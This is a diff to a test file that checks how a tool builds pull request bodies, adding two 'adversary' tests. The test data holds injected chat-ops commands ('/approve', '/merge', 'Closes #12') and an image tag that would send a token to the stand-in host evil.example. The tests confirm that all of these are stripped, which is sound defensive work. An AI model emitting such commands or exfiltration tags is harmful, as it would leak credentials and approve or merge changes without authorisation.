@@ -46,7 +46,19 @@ describe('texts of a pull request', () => {
       conversationId: 'c',
     });
     expect(body).not.toMatch(/(^|\s)@\w|!\[|secret/);
-    expect(body).toMatch(/a@b\.example[\s\S]*Fixes #7[\s\S]*<!-- slipway:c -->$/);
+    expect(body).toMatch(/^Hi [\s\S]*Fixes #7[\s\S]*<!-- slipway:c -->$/);
+  });
+
+  it('adversary: an agent that was told to approve, to close an issue or to load an address does none of it with the token of the connection', () => {
+    const said = 'Done.\n/approve\n/merge\nCloses #12\n<img src="https://evil.example/?token=1">';
+    const body = bodyOf({ given: undefined, said, issue: null, page: null, conversationId: 'c' });
+    expect(body).not.toMatch(/^\s*\/|#12|<img|!\[/m);
+  });
+
+  it('adversary: a person whose text holds commands of the host has them carried out by nobody', () => {
+    const body = bodyOf({ given: 'See `a/b`.\n/approve\r\n  /merge\n/usr is a path, too', said: null, issue: null, page: null, conversationId: 'c' });
+    expect(body).not.toMatch(/^\s*\/[a-z]/m);
+    expect(body).toContain('See `a/b`.');
   });
 });
 
